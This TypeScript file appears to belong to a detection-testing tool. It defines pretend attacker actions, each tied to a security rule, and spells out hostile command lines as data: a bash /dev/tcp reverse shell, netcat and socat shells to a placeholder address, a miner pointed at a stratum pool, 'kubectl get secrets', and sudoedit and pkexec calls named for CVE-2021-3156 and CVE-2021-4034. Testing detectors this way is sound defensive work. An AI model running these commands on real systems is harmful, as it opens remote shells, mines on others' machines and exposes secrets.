// Actions with programs that intruders bring or look for, and with what web servers start for them. All of them only pretend.

import type { Action } from './action.ts';
import { runs, starts } from './pretended.ts';
import { become, pretend } from './steps.ts';

export const NETCAT = ['-e', '/bin/sh', '192.0.2.1', '22'] as const;

export const ATTACK_TOOL_ACTIONS: readonly Action[] = [
  {
    name: 'start-shell-from-web-server',
    description: 'runs a program called httpd, which starts a shell',
    where: 'any',
    rules: ['Web Server Spawned Shell'],
    ...starts('httpd', 'sh', '-c', 'ls'),
  },
  {
    name: 'start-download-from-web-server',
    description: 'runs a program called php-fpm, which starts one called curl',
    where: 'any',
    rules: ['Web Server Spawned Suspicious Child Process'],
    ...starts('php-fpm', 'curl', 'http://192.0.2.1/'),
  },
  {
    name: 'start-reverse-shell-from-web-server',
    description: 'runs a program called apache2, which starts a shell with a command that connects to another machine',
    where: 'any',
    rules: ['Reverse Shell from Web Server'],
    ...starts('apache2', 'bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
  },
  {
    name: 'run-miner',
    description: 'runs a program called xmrig',
    where: 'any',
    rules: ['Known Cryptominer Process Executed'],
    ...runs('xmrig'),
  },
  {
    name: 'run-miner-under-another-name',
    description: 'runs a program with the address of a mining pool as argument',
    where: 'any',
    rules: ['Detect crypto miners using the Stratum protocol'],
    ...runs('worker', '-o', 'stratum+tcp://pool.example:3333'),
  },
  {
    name: 'run-netcat-with-shell-on-host',
    description: 'runs a program called nc with the option to run a shell',
    where: 'host',
    rules: ['Netcat/Socat Remote Code Execution on Host'],
    ...runs('nc', ...NETCAT),
  },
  {
    name: 'run-socat-with-shell-on-host',
    description: 'runs a program called socat with the option to run a shell',
    where: 'host',
    rules: ['Netcat/Socat Remote Code Execution on Host'],
    ...runs('socat', 'TCP:192.0.2.1:22', 'EXEC:/bin/sh'),
  },
  {
    name: 'run-network-tool-at-installation',
    description: 'runs a program called npm, which starts one called nmap',
    where: 'container',
    rules: ['Network Tool Executed During NPM Package Install'],
    ...starts('npm', 'nmap', '-sn', '192.0.2.0/30'),
  },
  {
    name: 'run-cluster-tool-in-container',
    description: 'runs a program called kubectl',
    where: 'container',
    rules: ['Kubernetes Client Tool Launched in Container'],
    ...runs('kubectl', 'get', 'secrets'),
  },
  {
    name: 'decode-payload',
    description: 'runs a program called base64 with the option to decode',
    where: 'container',
    rules: ['Decoding Payload in Container'],
    ...runs('base64', '-d'),
  },
  {
    name: 'look-round-at-terminal',
    description: 'runs a program called whoami at a terminal',
    where: 'any',
    rules: ['Basic Interactive Reconnaissance'],
    steps: ({ directory }) => [['@terminal'], become(directory, 'whoami')],
  },
  {
    name: 'exploit-sudo',
    description: 'runs a program called sudoedit with the arguments of CVE-2021-3156',
    where: 'any',
    // Not in a session that root opened by login: there user.loginuid is 0.
    rules: ['Sudo Potential Privilege Escalation'],
    steps: ({ directory, marker }) => [pretend(directory, 'sudoedit', '-s', `${marker}\\`)],
  },
  {
    name: 'exploit-polkit',
    description: 'runs a program called pkexec without any argument, as CVE-2021-4034 needs it',
    where: 'any',
    // As above. With no arguments, the marker is the name of its parent.
    rules: ['Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)'],
    steps: ({ directory, marker }) => [become(directory, marker), pretend(directory, 'pkexec')],
  },
];
